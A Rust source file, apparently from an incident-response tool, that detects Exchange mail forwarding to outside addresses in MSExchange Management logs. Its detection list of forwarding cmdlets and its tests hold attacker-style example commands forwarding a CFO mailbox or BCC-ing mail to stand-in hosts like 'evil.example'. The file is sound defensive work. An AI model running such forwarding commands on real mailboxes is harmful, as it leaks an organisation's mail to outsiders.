//! Mail still leaking: forwarding set up through Exchange's cmdlets, read
//! from the MSExchange Management log (event 1, "Cmdlet succeeded": the
//! cmdlet in `Data1`, its parameters in `Data2`, the caller in `Data3`).
//!
//! - `New-InboxRule`/`Set-InboxRule` with `-ForwardTo`,
//!   `-ForwardAsAttachmentTo` or `-RedirectTo`;
//! - `Set-Mailbox` with `-ForwardingSmtpAddress` or `-ForwardingAddress`;
//! - `New-TransportRule`/`Set-TransportRule` with `-BlindCopyTo`,
//!   `-AddToRecipients`, `-CopyTo` or `-RedirectMessageTo`;
//! - `New-MailContact` with `-ExternalEmailAddress`: the outside address a
//!   rule can forward to by the contact's name.
//!
//! A forward to an address outside the mailbox's own domain is mail
//! leaving the organisation for as long as the rule stands: a finding in
//! its own right (MITRE ATT&CK T1114.003, Email Forwarding Rule; CISA
//! AA21-062A lists mailbox access among the intruders' aims). A forward
//! inside the domain is ordinary; one to a recipient named without an
//! address (a contact, a user) is on record (`info`) and the judge's
//! ledger resolves the name against the contacts created.

use crate::events::EventDetector;
use crate::LogContext;
use exhunt_core::{
    cmdlet_params, ArtifactKind, EventRecord, Finding, FindingKind, LogSource, NextStep, Record,
    RuleSpec, Severity, Verdict,
};

const SOURCE: &str = "MITRE ATT&CK T1114.003 (Email Collection: Email Forwarding Rule); Microsoft, 'Detect and Remediate Outlook Rules and Custom Forms Injections Attacks' and the cmdlet references of New-InboxRule, Set-Mailbox (-ForwardingSmtpAddress) and New-TransportRule (-BlindCopyTo); CISA AA21-062A";

/// Forwarding to an outside address.
pub const FORWARD_OUT: RuleSpec = RuleSpec {
    id: "mail-forwarded-out",
    title: "Mail forwarded to an outside address (inbox rule, mailbox forwarding or transport rule): mail keeps leaving until it is removed",
    cves: &[],
    kind: FindingKind::Collection,
    verdict: Verdict::Compromised,
    severity: Severity::High,
    source: SOURCE,
    next_step: Some(NextStep::MailForwarded),
};

/// Forwarding to a recipient named without an address.
pub const FORWARD_NAMED: RuleSpec = RuleSpec {
    id: "mail-forwarded-named",
    title: "Mail forwarded to a recipient named without an address (check where it points)",
    cves: &[],
    kind: FindingKind::Collection,
    verdict: Verdict::Attempted,
    severity: Severity::Info,
    source: SOURCE,
    next_step: Some(NextStep::MailForwarded),
};

/// A mail contact for an outside address.
pub const CONTACT: RuleSpec = RuleSpec {
    id: "mail-contact-created",
    title: "Mail contact created for an outside address (a forwarding rule can send mail to it by name)",
    cves: &[],
    kind: FindingKind::Config,
    verdict: Verdict::Attempted,
    severity: Severity::Info,
    source: SOURCE,
    next_step: None,
};

/// The parameters of one forwarding cmdlet: which carry the mailbox, which
/// the destination.
struct Forwarding {
    cmdlets: &'static [&'static str],
    mailbox: &'static [&'static str],
    targets: &'static [&'static str],
    how: &'static str,
}

const FORWARDINGS: &[Forwarding] = &[
    Forwarding {
        cmdlets: &["New-InboxRule", "Set-InboxRule"],
        mailbox: &["Mailbox", "Identity"],
        targets: &["ForwardTo", "ForwardAsAttachmentTo", "RedirectTo"],
        how: "inbox-rule",
    },
    Forwarding {
        cmdlets: &["Set-Mailbox"],
        mailbox: &["Identity"],
        targets: &["ForwardingSmtpAddress", "ForwardingAddress"],
        how: "mailbox-forwarding",
    },
    Forwarding {
        cmdlets: &["New-TransportRule", "Set-TransportRule"],
        mailbox: &[],
        targets: &[
            "BlindCopyTo",
            "AddToRecipients",
            "CopyTo",
            "RedirectMessageTo",
        ],
        how: "transport-rule",
    },
];

/// The addresses in a parameter value: one or a list (`"a@x.org","b@y.org"`,
/// `a@x.org, b@y.org`), each without an `smtp:` prefix; other entries
/// (recipient names) as they are.
pub fn recipients(value: &str) -> Vec<String> {
    value
        .split([',', ';'])
        .map(|r| r.trim().trim_matches(['"', '\'', ' ']))
        .map(|r| {
            r.strip_prefix("smtp:")
                .or_else(|| r.strip_prefix("SMTP:"))
                .unwrap_or(r)
        })
        .filter(|r| !r.is_empty() && !r.eq_ignore_ascii_case("$null"))
        .map(str::to_string)
        .collect()
}

/// The domain of an address (lower case), `None` for a name.
pub fn domain_of(addr: &str) -> Option<String> {
    let (_, d) = addr.rsplit_once('@')?;
    let d = d.trim().trim_end_matches('>').to_ascii_lowercase();
    (!d.is_empty()).then_some(d)
}

/// Whether `target` is outside `home` (a domain and its subdomains are
/// inside).
fn outside(target: &str, home: &str) -> bool {
    !(target == home
        || target.ends_with(&format!(".{home}"))
        || home.ends_with(&format!(".{target}")))
}

/// The mail-flow detector over MSExchange Management events.
#[derive(Debug, Default)]
pub struct MailFlow;

impl MailFlow {
    fn is_management(rec: &EventRecord) -> bool {
        rec.logsource
            .service
            .as_deref()
            .is_some_and(|s| s.eq_ignore_ascii_case("msexchange-management"))
    }
}

impl EventDetector for MailFlow {
    fn applies_to(&self, kind: &ArtifactKind) -> bool {
        matches!(
            kind,
            ArtifactKind::EventLog { .. } | ArtifactKind::EventJsonl
        )
    }

    fn line_literals(&self, ls: &LogSource) -> Option<Vec<String>> {
        // Text logs (JSON lines): only lines naming one of the cmdlets.
        let _ = ls;
        Some(
            FORWARDINGS
                .iter()
                .flat_map(|f| f.cmdlets.iter())
                .chain(["New-MailContact"].iter())
                .map(|c| c.to_string())
                .collect(),
        )
    }

    fn check(&self, ctx: &LogContext<'_>, rec: &EventRecord, out: &mut Vec<Finding>) {
        if !Self::is_management(rec) {
            return;
        }
        let (Some(cmdlet), Some(params)) = (rec.field("Data1"), rec.field("Data2")) else {
            return;
        };
        let cmdlet = cmdlet.trim();
        let caller = rec.field("Data3").unwrap_or("");
        let p = cmdlet_params(params);
        let get = |names: &[&str]| {
            names.iter().find_map(|n| {
                p.iter()
                    .find(|(k, _)| k.eq_ignore_ascii_case(n))
                    .map(|(_, v)| *v)
            })
        };
        let base = |spec: &RuleSpec| {
            let mut f = Finding::from_spec(spec, ctx.path);
            f.time = rec.time().map(str::to_string);
            f.line = Some(rec.line_no());
            f.with("cmdlet", cmdlet)
                .with("parameters", params.chars().take(2000).collect::<String>())
                .with("account", caller)
        };
        if cmdlet.eq_ignore_ascii_case("New-MailContact") {
            if let Some(addr) = get(&["ExternalEmailAddress"]) {
                let addr = recipients(addr).into_iter().next().unwrap_or_default();
                if domain_of(&addr).is_some() {
                    let name = get(&["Name", "Alias", "DisplayName"]).unwrap_or("");
                    out.push(
                        base(&CONTACT)
                            .with("contact", name)
                            .with("alias", get(&["Alias"]).unwrap_or(""))
                            .with("to", addr),
                    );
                }
            }
            return;
        }
        let Some(fw) = FORWARDINGS
            .iter()
            .find(|f| f.cmdlets.iter().any(|c| c.eq_ignore_ascii_case(cmdlet)))
        else {
            return;
        };
        let targets: Vec<(String, String)> = fw
            .targets
            .iter()
            .filter_map(|n| get(&[n]).map(|v| (n.to_string(), v)))
            .flat_map(|(n, v)| recipients(v).into_iter().map(move |r| (n.clone(), r)))
            .collect();
        if targets.is_empty() {
            return;
        }
        // `Set-InboxRule -Identity "jane@contoso.com\Rule name"`.
        let mailbox = get(fw.mailbox)
            .map(|m| m.split('\\').next().unwrap_or(m).to_string())
            .unwrap_or_default();
        let home = domain_of(&mailbox).or_else(|| domain_of(caller));
        let (mut out_addrs, mut named) = (Vec::new(), Vec::new());
        for (param, t) in &targets {
            match (domain_of(t), &home) {
                (Some(d), Some(h)) if !outside(&d, h) => {}
                (Some(_), _) => out_addrs.push((param.as_str(), t.as_str())),
                (None, _) => named.push((param.as_str(), t.as_str())),
            }
        }
        let rule_name = get(&["Name"]).unwrap_or("");
        for (list, spec) in [(out_addrs, &FORWARD_OUT), (named, &FORWARD_NAMED)] {
            if list.is_empty() {
                continue;
            }
            let to: Vec<&str> = list.iter().map(|(_, t)| *t).collect();
            let params: Vec<&str> = list.iter().map(|(p, _)| *p).collect();
            out.push(
                base(spec)
                    .with("how", fw.how)
                    .with("mailbox", mailbox.as_str())
                    .with("rule_name", rule_name)
                    .with("to", to.join(", "))
                    .with("forward_parameter", params.join(", ")),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn event(cmdlet: &str, params: &str, caller: &str) -> EventRecord {
        let mut r = EventRecord {
            time: Some("2021-03-04T02:10:00.000Z".into()),
            line: 7,
            logsource: LogSource {
                category: None,
                product: Some("windows".into()),
                service: Some("msexchange-management".into()),
            },
            ..Default::default()
        };
        r.push("Data1", cmdlet);
        r.push("Data2", params);
        r.push("Data3", caller);
        r
    }

    fn run(cmdlet: &str, params: &str) -> Vec<Finding> {
        let mut out = Vec::new();
        let kind = ArtifactKind::EventJsonl;
        let ctx = LogContext {
            path: "events/MSExchange-Management.jsonl",
            kind: &kind,
        };
        MailFlow.check(
            &ctx,
            &event(cmdlet, params, "contoso.local/Users/Administrator"),
            &mut out,
        );
        out
    }

    #[test]
    fn parameters_are_split_as_the_log_writes_them() {
        let p = cmdlet_params(
            r#"-Mailbox "jane@contoso.com" -Name "x ""quoted"" y" -ForwardTo "a@evil.example","b@evil.example" -StopProcessingRules -Force $true"#,
        );
        assert_eq!(p[0], ("Mailbox", "jane@contoso.com"));
        assert_eq!(p[1], ("Name", r#"x ""quoted"" y"#));
        assert_eq!(p[2], ("ForwardTo", r#"a@evil.example","b@evil.example"#));
        assert_eq!(p[3], ("StopProcessingRules", ""));
        assert_eq!(p[4], ("Force", "$true"));
        assert_eq!(
            recipients(p[2].1),
            vec!["a@evil.example".to_string(), "b@evil.example".to_string()]
        );
    }

    #[test]
    fn an_outside_forward_is_a_finding_an_inside_one_is_not() {
        let f = run(
            "New-InboxRule",
            r#"-Mailbox "cfo@contoso.com" -Name "." -ForwardTo "drop@mail-archive.example" -MarkAsRead $true"#,
        );
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].rule, "mail-forwarded-out");
        assert_eq!(f[0].evidence["to"], "drop@mail-archive.example");
        assert_eq!(f[0].evidence["mailbox"], "cfo@contoso.com");
        assert!(run(
            "New-InboxRule",
            r#"-Mailbox "cfo@contoso.com" -Name "to my deputy" -ForwardTo "deputy@contoso.com""#
        )
        .is_empty());
        // A subdomain is inside.
        assert!(run(
            "Set-Mailbox",
            r#"-Identity "cfo@contoso.com" -ForwardingSmtpAddress "smtp:cfo@eu.contoso.com""#
        )
        .is_empty());
        let f = run(
            "Set-Mailbox",
            r#"-Identity "cfo@contoso.com" -ForwardingSmtpAddress "smtp:cfo.archive@gmail.example""#,
        );
        assert_eq!(f[0].evidence["how"], "mailbox-forwarding");
        // Clearing the forward is not one.
        assert!(run(
            "Set-Mailbox",
            r#"-Identity "cfo@contoso.com" -ForwardingSmtpAddress $null"#
        )
        .is_empty());
    }

    #[test]
    fn transport_rules_contacts_and_named_recipients() {
        let f = run(
            "New-TransportRule",
            r#"-Name "Journal" -SentToScope "InOrganization" -BlindCopyTo "collect@evil.example""#,
        );
        assert_eq!(f[0].evidence["how"], "transport-rule");
        let f = run(
            "New-MailContact",
            r#"-Name "Backup Contact" -ExternalEmailAddress "SMTP:collect@evil.example""#,
        );
        assert_eq!(f[0].rule, "mail-contact-created");
        assert_eq!(f[0].evidence["to"], "collect@evil.example");
        let f = run(
            "Set-Mailbox",
            r#"-Identity "cfo@contoso.com" -ForwardingAddress "Backup Contact""#,
        );
        assert_eq!(f[0].rule, "mail-forwarded-named");
        assert_eq!(f[0].severity, Severity::Info);
    }
}
